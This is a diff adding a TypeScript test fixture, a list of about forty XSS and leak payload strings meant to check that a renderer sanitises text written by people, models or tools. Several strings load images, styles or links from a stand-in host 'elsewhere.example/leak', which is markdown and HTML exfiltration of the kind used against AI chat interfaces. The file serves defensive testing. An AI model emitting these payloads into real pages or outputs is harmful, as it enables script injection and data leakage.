@@ -1,0 +1,51 @@
+/** Where nothing may be fetched from. */
+const elsewhere = 'https://elsewhere.example/leak';
+
+/**
+ * Texts that run something, or tell somebody elsewhere, on a page that is careless with what a person, a model or a
+ * tool writes.
+ */
+export const harmfulTexts: readonly string[] = [
+  '<script>window.harmed=1</script>',
+  '<ScRiPt src="https://elsewhere.example/x.js"></sCrIpT>',
+  '<img src=x onerror="window.harmed=2">',
+  `<img src="${elsewhere}?a=1">`,
+  `<img srcset="${elsewhere} 1x, ${elsewhere}?2 2x">`,
+  '<svg onload="window.harmed=3"></svg>',
+  '<svg><script>window.harmed=4</script></svg>',
+  '<svg><image href="https://elsewhere.example/leak.svg"/></svg>',
+  '<math><mtext><img src=x onerror=window.harmed=5></mtext></math>',
+  '<iframe src="https://elsewhere.example/"></iframe>',
+  '<iframe srcdoc="<script>parent.harmed=6</script>"></iframe>',
+  '<object data="https://elsewhere.example/x.swf"></object>',
+  '<embed src="https://elsewhere.example/x.swf">',
+  '<video><source onerror="window.harmed=7"></video>',
+  `<video poster="${elsewhere}" autoplay></video>`,
+  `<audio src="${elsewhere}" autoplay></audio>`,
+  '<body onload="window.harmed=8">',
+  '<details open ontoggle="window.harmed=9">x</details>',
+  '<input autofocus onfocus="window.harmed=10">',
+  `<style>body{background:url(${elsewhere})}</style>`,
+  `<style>@import url(${elsewhere}.css);</style>`,
+  `<div style="background:url(${elsewhere})">x</div>`,
+  `<link rel="stylesheet" href="${elsewhere}.css">`,
+  `<link rel="preconnect" href="${elsewhere}"><link rel="prefetch" href="${elsewhere}">`,
+  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  '<base href="https://elsewhere.example/">',
+  `<form action="${elsewhere}"><button>Send</button></form>`,
+  `![a picture](${elsewhere}.png)`,
+  `![a picture](${elsewhere}.png "with a title") and ![](${elsewhere}?b)`,
+  `[![a picture](${elsewhere}.png)](${elsewhere})`,
+  `![a picture][1]\n\n[1]: ${elsewhere}.png`,
+  '[click me](javascript:window.harmed=11)',
+  '[click me](JaVaScRiPt:window.harmed=12)',
+  '[click me](java\nscript:window.harmed=13)',
+  '[click me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE0PC9zY3JpcHQ+)',
+  '[click me](vbscript:x)',
+  '<javascript:window.harmed=15>',
+  '[bank.example](https://bank.example@elsewhere.example/)',
+  '<!--<img src="--><img src=x onerror=window.harmed=16//">',
+  '{{constructor.constructor("window.harmed=17")()}} ${window.harmed=18} <%= window.harmed=19 %>',
+  '"><script>window.harmed=20</script>',
+  `| a | b |\n|---|---|\n| ![x](${elsewhere}) | <img src=x onerror=window.harmed=21> |`,
+];
